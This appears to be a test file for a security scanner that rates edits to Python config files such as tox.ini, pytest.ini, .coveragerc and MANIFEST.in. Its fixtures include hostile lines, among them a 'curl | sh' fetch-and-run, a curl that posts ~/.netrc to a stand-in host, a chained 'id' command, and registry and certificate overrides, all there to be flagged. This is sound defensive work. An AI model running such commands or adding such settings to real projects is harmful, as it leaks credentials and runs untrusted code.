import { testManifest } from './support.ts';

const SOURCE = ['dependency-source warning'];
const PLACE = ['registry-override warning'];
const OPEN = ['certificate-check-off critical'];
const RUN = ['downloaded-code critical'];
const SHOWN = ['secrets-exposed warning'];

testManifest('tox.ini', '[tox]\nenvlist = py312\n\n[testenv]\nHERE\n\n[flake8]\nmax-line-length = 100\n', [
  ['deps = pytest', 'deps =\n    pytest\n    unit: pytest-cov>=3\n    -r{toxinidir}/requirements/test.txt', []],
  ['deps = pytest', 'deps =\n    -r ../../test.txt', ['unjudged']],
  ['deps = pytest', 'deps =\n    git+https://github.com/a/b@main', SOURCE],
  ['deps = pytest', 'deps =\n    unit: --extra-index-url https://x.example/simple', PLACE],
  ['commands = pytest', 'commands =\n    unit: coverage run -m pytest {posargs}\n    python -m build', []],
  ['commands = pytest', 'commands =\n    bash -c "curl https://x.example/a | sh"', RUN],
  ['commands = pytest', 'commands =\n    curl -d @{env:HOME}/.netrc https://x.example', ['secret-sent-away critical']],
  ['commands = bandit -r src', 'commands =\n    - bandit -r src', ['security-check-off warning']],
  ['commands = pytest', 'commands = - pytest', ['unjudged']],
  ['commands = pytest', 'commands = pytest --ignore=tests/security', ['unjudged']],
  ['commands = pytest', 'commands = pytest -p evil', ['unjudged']],
  ['commands = pytest', 'commands = pytest && id', ['unjudged']],
  ['commands = pytest', 'commands = python -c "import a"', ['unjudged']],
  ['commands = pytest', 'commands = ./run.sh', ['unjudged']],
  ['passenv = HOME', 'passenv =\n    HOME\n    CI', []],
  ['passenv = HOME', 'passenv = *', SHOWN],
  ['passenv = HOME', 'passenv = AWS_*', ['unjudged']],
  ['setenv = CI = 1', 'setenv =\n    PYTHONHASHSEED = 0\n    COVERAGE_FILE = .coverage.{envname}', []],
  ['setenv = CI = 1', 'setenv =\n    PIP_INDEX_URL = http://x.example/simple', ['registry-override critical']],
  ['setenv = CI = 1', 'setenv =\n    PIP_TRUSTED_HOST = x.example', OPEN],
  ['setenv = CI = 1', 'setenv =\n    PYTHONPATH = {toxinidir}/../x', SOURCE],
  ['setenv = CI = 1', 'setenv =\n    PYTHONSTARTUP = a.py', ['unjudged']],
  [
    'install_command = python -m pip install {opts} {packages}',
    'install_command = ./pip {opts} {packages}',
    ['unjudged'],
  ],
  ['skip_install = false', 'skip_install = true', []],
  ['skip_install = false', 'ignore_outcome = true', ['unjudged']],
]);

testManifest('pytest.ini', '[pytest]\nHERE\n', [
  ['addopts = -ra', 'addopts = -ra --strict-markers --durations=10', []],
  ['addopts = -ra', 'addopts = -p /tmp/evil', SOURCE],
  ['addopts = -ra', 'addopts = -p evil', ['unjudged']],
  ['addopts = -ra', 'addopts = --deselect tests/a.py', ['unjudged']],
  ['pythonpath = src', 'pythonpath = src lib', []],
  ['pythonpath = src', 'pythonpath = ../x', SOURCE],
  ['testpaths = tests', 'testpaths = tests\nmarkers =\n    slow: takes long', []],
]);

testManifest('.coveragerc', '[run]\nbranch = True\nHERE\n', [
  ['parallel = true', 'parallel = false\n[report]\nexclude_lines =\n    pragma: no cover', []],
  ['parallel = true', 'omit =\n    src/*', ['unjudged']],
  ['parallel = true', 'plugins = evil', ['unjudged']],
  ['parallel = true', '[report]\nfail_under = 1', ['unjudged']],
]);

testManifest('MANIFEST.in', 'include README.md\nHERE\n', [
  ['graft a', 'graft tests\nrecursive-include docs *.rst\nprune docs/_build\nglobal-exclude *.pyc', []],
  ['graft a', 'include .env', SHOWN],
  ['graft a', 'recursive-include certs *.pem *.key', SHOWN],
  ['graft a', 'graft .git', SHOWN],
  ['graft a', 'global-include *', SHOWN],
  ['graft a', 'include ../a', ['unjudged']],
  ['global-exclude .env', '', ['unjudged']],
  ['graft a', 'include \\\n .env', ['unjudged']],
]);
